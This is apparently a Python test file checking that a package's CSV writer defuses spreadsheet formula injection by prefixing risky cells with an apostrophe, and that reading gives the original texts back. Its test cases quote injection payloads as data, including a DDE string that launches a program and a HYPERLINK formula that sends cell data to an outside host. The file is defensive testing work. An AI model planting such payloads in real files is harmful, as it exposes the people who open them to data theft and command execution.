"""Tables as CSV: a spreadsheet that opens one runs nothing, and reading gives the texts back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import heldout
from heldout.core.files import csv_cells, csv_text, csv_text_of
from heldout.core.tables import csv_header, read_table_file

TEXTS = st.text("=+-@'\t\r\n.,\"019eEax ", min_size=1, max_size=7)
NUMBER = re.compile(r"-?[0-9.]*(?:(?<=[0-9.])[eE][+-]?[0-9]+)?\Z")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://a.test?"&A1)', '\'=HYPERLINK("http://a.test?"&A1)'),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-JmE3.jpg", "'-JmE3.jpg"),
        ("'=1", "''=1"),
        ("''-1", "'''-1"),
        ("-e5", "'-e5"),
        # What is a number, a sign alone, or an apostrophe as people write it stays as it is.
        ("-0.5", "-0.5"),
        ("-1e-05", "-1e-05"),
        ("-", "-"),
        ("'tis", "'tis"),
        ("a=b", "a=b"),
        ("7@N00", "7@N00"),
    ],
)
def test_which_texts_are_marked(text: str, cell: str) -> None:
    assert csv_cells([text]) == [cell]
    assert csv_text_of(cell) == text


@settings(max_examples=300)
@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=5))
def test_no_cell_is_a_formula_and_every_text_comes_back(rows: list[tuple[str, str]]) -> None:
    written = csv_text(rows[0], rows[1:])
    cells = list(csv.reader(io.StringIO(written, newline="")))
    for cell in (cell for row in cells for cell in row):
        assert cell[0] not in "=+-@\t\r" or NUMBER.match(cell)
    assert [tuple(map(csv_text_of, row)) for row in cells] == rows


@settings(max_examples=100)
@given(
    names=st.lists(TEXTS, min_size=2, max_size=2, unique=True),
    rows=st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=5),
)
def test_a_table_comes_back_with_the_names_of_its_columns(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], rows: list[tuple[str, str]]
) -> None:
    path = tmp_path_factory.mktemp("tables") / "table.csv"
    path.write_text(csv_text(names, rows), encoding="utf-8", newline="")
    table = read_table_file(path)
    assert table.column_names == csv_header(path) == names
    assert list(zip(*(column.to_pylist() for column in table.columns), strict=True)) == rows


def test_numbers_are_numbers_and_types_are_found_by_the_name_of_the_column(tmp_path: Path) -> None:
    import pyarrow as pa

    path = tmp_path / "table.csv"
    path.write_text(csv_text(["=x", "y"], [[-0.5, "-0.5"], [-1e-7, "=x"]]), newline="")
    assert path.read_text() == "'=x,y\n-0.5,-0.5\n-1e-07,'=x\n"
    table = read_table_file(path, types={"=x": pa.float64()})
    assert table.to_pydict() == {"=x": [-0.5, -1e-7], "y": ["-0.5", "=x"]}


def test_every_writer_of_csv_marks_its_cells() -> None:
    package = Path(heldout.__file__).parent
    writers = {
        path.relative_to(package).as_posix(): text
        for path in package.rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8"))
    }
    assert "core/files.py" in writers
    for path, text in writers.items():
        assert text.count("csv_cells") > 1, path
